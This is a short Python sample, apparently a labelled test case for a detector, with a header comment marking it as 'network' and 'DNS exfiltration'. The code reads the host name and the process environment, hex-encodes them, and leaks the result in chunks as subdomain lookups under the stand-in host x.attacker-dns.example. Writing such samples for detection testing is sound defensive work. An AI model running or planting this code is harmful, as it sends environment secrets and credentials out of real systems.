# expect: network; DNS exfiltration: hex-encodes a secret into subdomain labels resolved with gethostbyname
import socket

with open("/etc/hostname") as fh:
    secret = (fh.read().strip() + ":" + open("/proc/self/environ", "rb").read().decode(errors="ignore"))[:600]

data = secret.encode().hex()
zone = "x.attacker-dns.example"
for seq, i in enumerate(range(0, len(data), 60)):
    label = data[i:i + 60]
    try:
        socket.gethostbyname(f"{seq}.{label}.{zone}")
    except socket.gaierror:
        pass
